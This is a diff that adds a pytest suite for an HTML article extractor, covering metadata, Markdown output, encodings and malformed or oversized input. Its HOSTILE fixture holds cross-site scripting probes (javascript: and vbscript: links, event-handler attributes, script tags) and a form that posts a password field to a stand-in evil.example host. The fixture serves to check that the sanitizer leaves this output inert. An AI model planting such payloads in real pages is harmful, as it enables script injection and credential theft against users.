@@ -1,0 +1,253 @@
+"""extract_html on real pages (Mozilla's readability test set) and on hostile or broken HTML."""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import lxml.html
+import markdown
+import pytest
+
+from scraper.encoding import decode_html
+from scraper.extract import ExtractError
+from scraper.extract.html import MAX_HTML_CHARS, extract_html
+from tests.test_sanitize import markup_problems
+
+DATASET = Path(__file__).resolve().parents[1] / ".." / "shared" / "datasets"
+PAGES = DATASET / "readability-test-pages"
+PAGE_URL = "http://fakehost/test/page.html"
+
+
+def rendered_text(md: str) -> str:
+    """What a reader sees of the Markdown, whitespace squashed."""
+    html = markdown.markdown(md, extensions=["tables", "fenced_code"])
+    root = lxml.html.fragment_fromstring(html, create_parent="div")
+    return squash(root.text_content())
+
+
+def squash(text: str) -> str:
+    return re.sub(r"\s+", " ", text).strip()
+
+
+# name -> (title, byline) as the page declares them (None: check nothing).
+REAL_PAGES = {
+    "ars-1": ("Just-released Minecraft exploit makes it easy to crash game servers", "Dan Goodin"),
+    "bbc-1": ("Obama admits US gun laws are his 'biggest frustration'", None),
+    "nytimes-1": ("United States to Lift Sudan Sanctions", "Jeffrey Gettleman"),
+    "wordpress": (None, None),
+    "lifehacker-working": (None, "Patrick Allan"),
+    "guardian-1": (None, "Eleanor Ainge Roy"),
+    "medium-1": (None, "Pippin Lee"),
+    "cnn": (None, "Ahiza Garcia"),
+}
+
+
+@pytest.fixture(scope="module")
+def pages() -> Path:
+    if not PAGES.is_dir():
+        pytest.skip("shared readability test pages not available")
+    return PAGES
+
+
+@pytest.mark.parametrize("name", sorted(REAL_PAGES))
+def test_real_page(pages: Path, name: str) -> None:
+    folder = pages / name
+    expected_meta = json.loads((folder / "expected-metadata.json").read_text(encoding="utf-8"))
+    doc = extract_html((folder / "source.html").read_bytes(), url=PAGE_URL)
+    title, byline = REAL_PAGES[name]
+    assert doc.title == (title or expected_meta["title"])
+    if byline:
+        assert doc.author == byline
+    assert doc.kind == "article"
+    assert doc.source_url == PAGE_URL
+    assert "<" not in re.sub(r"`[^`]*`", "", doc.body) or "&lt;" in doc.body
+
+    seen = rendered_text(doc.body)
+    expected_root = lxml.html.fromstring((folder / "expected.html").read_text(encoding="utf-8"))
+    paragraphs = sorted(
+        (squash(p.text_content()) for p in expected_root.iter("p")), key=len, reverse=True
+    )
+    for sentence in paragraphs[:3]:
+        assert sentence[:120] in seen
+
+    # Navigation, share and related boxes of the source that the expected article leaves out.
+    expected_text = squash(expected_root.text_content())
+    source_root = lxml.html.fromstring(decode_html((folder / "source.html").read_bytes()))
+    leaks = []
+    for element in source_root.iter():
+        if not isinstance(element.tag, str):
+            continue
+        marks = f"{element.get('class') or ''} {element.get('id') or ''}".lower()
+        if element.tag == "nav" or re.search(r"share|related|social", marks):
+            text = squash(element.text_content())
+            if 15 < len(text) < 300 and text not in expected_text and text in seen:
+                leaks.append(text)
+    assert leaks == []
+
+
+def test_metadata_from_declarations() -> None:
+    html = """<html lang="zh-CN"><head>
+      <title>Notice on crypto trading risks | Example Regulator</title>
+      <meta property="og:site_name" content="Example Regulator">
+      <meta name="description" content="The regulator warns investors.">
+      <meta property="article:published_time" content="2026-02-06T10:52:50+08:00">
+      <link rel="canonical" href="/notices/42.html">
+      </head><body><nav><a href="/">Home</a> <a href="/news">News</a></nav>
+      <article><h1>Notice on crypto trading risks</h1>
+      <p class="byline">By Jane Doe — February 6, 2026</p>
+      <p>Virtual currencies do not have the same legal status as legal tender and must not
+      circulate as currency in the market. Trading them remains an illegal financial activity.</p>
+      <p>Institutions must not provide services to such trading, and violators will be punished
+      according to law. Investors bear their own losses.</p></article></body></html>"""
+    doc = extract_html(html, url="https://regulator.example/notices/42.html?utm=x")
+    assert doc.title == "Notice on crypto trading risks"
+    assert doc.author == "Jane Doe"
+    assert doc.date == "2026-02-06 10:52:50"
+    assert doc.site_name == "Example Regulator"
+    assert doc.language == "zh-CN"
+    assert doc.summary == "The regulator warns investors."
+    assert doc.canonical_url == "https://regulator.example/notices/42.html"
+    assert doc.source_url == "https://regulator.example/notices/42.html?utm=x"
+    assert "Home" not in rendered_text(doc.body)
+
+
+def test_partial_date_keeps_its_precision() -> None:
+    html = (
+        '<html><head><meta name="dcterms.issued" content="2026-02"></head><body><article>'
+        + "<p>The measures take effect on publication. " * 20
+        + "</p></article></body></html>"
+    )
+    assert extract_html(html).date == "2026-02"
+
+
+def test_markdown_keeps_structure_and_absolute_links() -> None:
+    html = """<html><head><title>Structure test page title</title></head><body><article>
+      <h2>Scope of the notice</h2>
+      <p>This notice applies to <a href="/glossary/stablecoin">stablecoins</a> and to
+      <strong>every</strong> service provider operating in the jurisdiction concerned.</p>
+      <ul><li>first obligation of providers</li><li>second obligation of providers</li></ul>
+      <blockquote><p>Quoted statement from the regulator about the scope.</p></blockquote>
+      <table><tr><th>Year</th><th>Cases</th></tr><tr><td>2025</td><td>12</td></tr></table>
+      <p><img src="chart.png" alt="Chart of cases"> The chart shows the cases by year.</p>
+      <pre>if a &lt; b:
+    print("code")</pre>
+      </article></body></html>"""
+    body = extract_html(html, url="https://reg.example/a/b.html").body
+    assert "## Scope of the notice" in body
+    assert "[stablecoins](https://reg.example/glossary/stablecoin)" in body
+    assert "**every**" in body
+    assert "- first obligation of providers" in body
+    assert "> Quoted statement" in body
+    assert "| Year | Cases |" in body
+    assert "![Chart of cases](https://reg.example/a/chart.png)" in body
+    assert "```\nif a < b:" in body
+
+
+HOSTILE = """<html><head><title>Hostile page with plenty of tricks</title>
+<style>body { background: url(javascript:alert(1)) }</style>
+<script>alert("head")</script></head>
+<body><article>
+<h1 onclick="alert(1)">Hostile page with plenty of tricks</h1>
+<p>The first paragraph is long enough to be the article text that readers want to see, and
+it carries an <a href="javascript:alert(1)">evil link</a>, a <a href="JaVaScRiPt:alert(2)">
+mixed case one</a>, a <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a> and an
+<a href="vbscript:msgbox(1)">old one</a>.</p>
+<p>Second paragraph with an image <img src="x" onerror="alert(1)" alt="broken image"> and an
+<img src="data:image/png;base64,AAAA" alt="inline data image"> and text that mentions
+&lt;script&gt;alert("escaped")&lt;/script&gt; literally, plus {: onclick="x" } braces.</p>
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
+<script>document.write("<iframe src=//evil>")</script>
+<p style="x" onmouseover="alert(3)">Third paragraph ends the article with more words in it so
+that the extractor has real text to keep from this hostile page.</p>
+<object data="evil.swf"></object><embed src="evil.swf"><svg onload="alert(4)"><text>svg</text></svg>
+</article></body></html>"""
+
+
+def test_hostile_html_renders_inert() -> None:
+    doc = extract_html(HOSTILE, url="https://news.example/story")
+    html = markdown.markdown(doc.body, extensions=["attr_list", "tables"])
+    assert markup_problems(doc.body) == []
+    lowered = html.lower()
+    for needle in ("<script", "<iframe", "<form", "<object", "<embed", "<svg", "javascript:"):
+        assert needle not in lowered
+    assert not re.search(r"<[^>]*\son\w+\s*=", html)
+    text = rendered_text(doc.body)
+    assert "evil link" in text and "mixed case one" in text
+    assert "Third paragraph ends the article" in text
+    assert 'alert("head")' not in text
+
+
+def test_gb18030_page_decodes() -> None:
+    text = "中国人民银行关于进一步防范和处置虚拟货币交易炒作风险的通知。" * 10 + "𠀀"
+    html = (
+        '<html><head><meta charset="gb2312"><title>关于虚拟货币的通知</title></head>'
+        f"<body><article><p>{text}</p></article></body></html>"
+    ).encode("gb18030")
+    doc = extract_html(html)
+    assert doc.title == "关于虚拟货币的通知"
+    assert text in doc.body
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (b"", "empty"),
+        ("   \n\t ", "empty"),
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "binary"),
+        (b"%PDF-1.7 binary stuff", "binary"),
+        ("<html><head><title>x</title></head><body><nav></nav></body></html>", "no article"),
+        ("<<<>>> ;;; ---", "no article"),
+    ],
+)
+def test_empty_or_garbage_is_refused(data: bytes | str, reason: str) -> None:
+    with pytest.raises(ExtractError, match=reason) as error:
+        extract_html(data)
+    assert "\n" not in str(error.value)
+
+
+def test_deep_nesting_does_not_crash() -> None:
+    depth = 10_000
+    html = (
+        "<html><head><title>Deep page title here</title></head><body>"
+        + "<div>" * depth
+        + "<p>Deep content that is still the text of the article, nested very deeply.</p>"
+        + "</div>" * depth
+        + "</body></html>"
+    )
+    doc = extract_html(html)
+    assert doc.title == "Deep page title here"
+
+
+def test_deep_inline_nesting_does_not_crash() -> None:
+    html = "<p>start " + "<b><i><span>" * 5000 + "deep words" + "</span></i></b>" * 5000
+    try:
+        doc = extract_html(html)
+    except ExtractError:
+        return  # a clear refusal is acceptable; a crash is not
+    assert "start" in doc.body
+
+
+@pytest.mark.parametrize("cut", [200, 600, 1000])
+def test_truncated_html_does_not_crash(cut: int) -> None:
+    page = (
+        "<html><head><title>Truncated page</title></head><body><article><p>"
+        + "Words of a page whose download stopped in the middle of a tag. " * 20
+        + '</p><p class="x"><a href="https://a.example/">link</a></p></article></body></html>'
+    )
+    doc = extract_html(page[:cut] + '<a href="ja')
+    assert doc.body.strip()
+
+
+def test_oversized_page_is_refused_clearly() -> None:
+    huge = "<html><body><p>" + "x" * (MAX_HTML_CHARS + 1) + "</p></body></html>"
+    with pytest.raises(ExtractError, match=r"over the .* limit"):
+        extract_html(huge)
+
+
+def test_fifty_megabyte_bytes_page_is_refused_without_crashing() -> None:
+    huge = b"<html><body>" + b"<p>word </p>" * (50 * 1024 * 1024 // 12) + b"</body></html>"
+    with pytest.raises(ExtractError, match="limit"):
+        extract_html(huge)
